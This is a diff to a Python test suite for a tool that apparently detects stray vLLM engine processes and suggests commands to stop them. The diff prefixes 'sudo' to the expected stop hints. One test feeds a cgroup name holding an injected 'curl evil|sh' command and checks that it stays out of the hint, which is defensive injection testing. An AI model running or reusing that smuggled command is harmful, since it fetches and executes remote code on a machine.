@@ -19,7 +19,7 @@ from sparkd.base.state.rank_record import FILE, GUARD, GUARD_COMM, RankRecord, R
 ID = "0123456789abcdef" * 4
 CGROUP = f"0::/system.slice/docker-{ID}.scope"
 SERVE = ("/usr/bin/python3", "/usr/local/bin/vllm", "serve", "/models/tiny")
-SERVICE, SESSION = "systemctl stop some.service", "0::/user.slice/user-1000.slice/session-3.scope"
+SERVICE, SESSION = "sudo systemctl stop some.service", "0::/user.slice/user-1000.slice/session-3.scope"
 OLD, NOW_SECONDS = 100, 10_000
 """Start time, in ticks, of a process that is 30 s old."""
 NO_DOCKER = DockerFacts(running=True, containers=())
@@ -201,7 +201,7 @@ def test_a_worker_that_is_not_orphaned_beyond_doubt_is_a_living_engine(
     expect(found, Level.BLOCK, "a living engine", clears=False, fixes=())
     offered = [[one.pid for one in offer] for offer in found.offers]
     assert offered == ([] if cgroup == CGROUP else [[10]]), "docker stop ends a container"
-    assert ("docker stop vllm_ds4" in found.hint) is (cgroup == CGROUP)
+    assert ("sudo docker stop vllm_ds4" in found.hint) is (cgroup == CGROUP)
 
 
 def test_an_api_server_whose_main_process_is_gone_still_takes_requests(tree: Tree) -> None:
@@ -213,9 +213,9 @@ def test_an_engine_of_a_users_service_is_stopped_by_that_users_manager(tree: Tre
     tree.file("/etc/passwd", "milo:x:0:1000::/home/milo:/bin/bash\n")
     group = "0::/user.slice/user-1000.slice/user@1000.service/app.slice/ds4.service"
     tree.process(30, "vllm", argv=SERVE, cgroup=group)
-    assert "systemctl --user -M milo@ stop ds4.service" in judged(tree).hint
+    assert "sudo systemctl --user -M milo@ stop ds4.service" in judged(tree).hint
     (tree.root / "etc/passwd").unlink()  # as of a user of a directory in the network
-    assert "systemctl --user -M 0@ stop ds4.service" in judged(tree).hint
+    assert "sudo systemctl --user -M 0@ stop ds4.service" in judged(tree).hint
 
 
 def test_no_folder_of_a_users_cgroups_puts_a_command_into_the_hint(tree: Tree) -> None:
@@ -224,7 +224,7 @@ def test_no_folder_of_a_users_cgroups_puts_a_command_into_the_hint(tree: Tree) -
     tree.process(30, "vllm", argv=SERVE, cgroup=f"{manager}/x; curl evil|sh #.service")
     assert "evil" not in judged(tree).hint
     tree.process(30, "vllm", argv=SERVE, cgroup=rf"{manager}/app-a\x2db.service")
-    assert r"systemctl --user -M milo@ stop 'app-a\x2db.service'; " in judged(tree).hint
+    assert r"sudo systemctl --user -M milo@ stop 'app-a\x2db.service'; " in judged(tree).hint
 
 
 def test_a_worker_adopted_by_init_whose_main_process_lives_belongs_to_it(tree: Tree) -> None:
@@ -386,7 +386,7 @@ def test_a_foreign_container_is_a_living_engine_and_named(tree: Tree) -> None:
     tree.process(5, "containerd-shim")
     tree.process(10, "vllm", parent=5, argv=SERVE, cgroup=CGROUP, namespace_pid=1)
     verdict = judged(tree, container(ours=False))
-    expect(verdict, Level.BLOCK, "container vllm_ds4", fixes=(), hint="stop it first: docker stop vllm_ds4")
+    expect(verdict, Level.BLOCK, "container vllm_ds4", fixes=(), hint="stop it first: sudo docker stop vllm_ds4")
 
 
 def test_a_port_that_a_stray_holds_is_free_once_the_stray_is_gone(tree: Tree) -> None:
